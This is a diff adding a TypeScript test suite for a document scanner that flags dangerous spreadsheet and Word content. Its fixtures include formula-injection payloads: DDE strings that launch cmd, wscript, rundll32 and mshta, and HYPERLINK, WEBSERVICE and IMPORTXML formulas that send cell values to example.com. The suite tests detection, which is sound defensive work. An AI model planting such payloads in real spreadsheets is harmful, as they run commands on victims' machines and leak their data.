@@ -1,0 +1,46 @@
+import assert from 'node:assert/strict'
+import { suite, test } from 'node:test'
+import { useInspector } from '#inspect/testing/inspector.ts'
+
+const { inspect } = useInspector()
+const accusations = (text: string): string[] =>
+  inspect(Buffer.from(text))
+    .findings.filter(({ severity }) => severity !== 'notice')
+    .map(({ id }) => id.replace('Docvet.', ''))
+
+suite('tables', () => {
+  const COMMANDS = [
+    "=cmd|' /C calc'!A0\n",
+    'a,b\n1,"=10+20+cmd|\' /C calc\'!A0"\n',
+    "x;@SUM(1)*wscript|'a.vbs'!A1\n",
+    "=rundll32|'URL.dll,OpenURL calc.exe'!A\n",
+    "a\t -2+3+mshta|'http://example.com'!A0\n",
+  ]
+  for (const text of COMMANDS)
+    test(JSON.stringify(text), () => assert.ok(accusations(text).includes('Sheet.DdeCommand')))
+
+  const SENDING = [
+    'a,"=HYPERLINK(""https://example.com/?x=""&A1,""click"")"\n',
+    '=WEBSERVICE("http://example.com/"&B2)\n',
+    '=IMPORTXML(CONCATENATE("http://example.com/?a=", A1), "//a")\n',
+  ]
+  for (const text of SENDING)
+    test(JSON.stringify(text), () => assert.deepEqual(accusations(text), ['Sheet.RemoteFormula']))
+
+  const HARMLESS = [
+    '-1,+2,@x,=A1+B1\n',
+    '+43 1 234,-5\n',
+    "=MSEXCEL|'book.xlsx'!A1\n",
+    '=HYPERLINK("https://example.com/","a")\n',
+    'a | b | c\n--|--\n',
+    "Use =cmd in '!A1' carefully\n",
+  ]
+  for (const text of HARMLESS) test(`harmless: ${JSON.stringify(text)}`, () => assert.deepEqual(accusations(text), []))
+
+  test('macros in the XML of Word 2003', () => {
+    const document = (attribute: string) =>
+      `<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" ${attribute}><w:body/></w:wordDocument>`
+    assert.deepEqual(accusations(document('w:macrosPresent="yes"')), ['Mht.ActiveMime'])
+    assert.deepEqual(accusations(document('w:macrosPresent="no"')), [])
+  })
+})
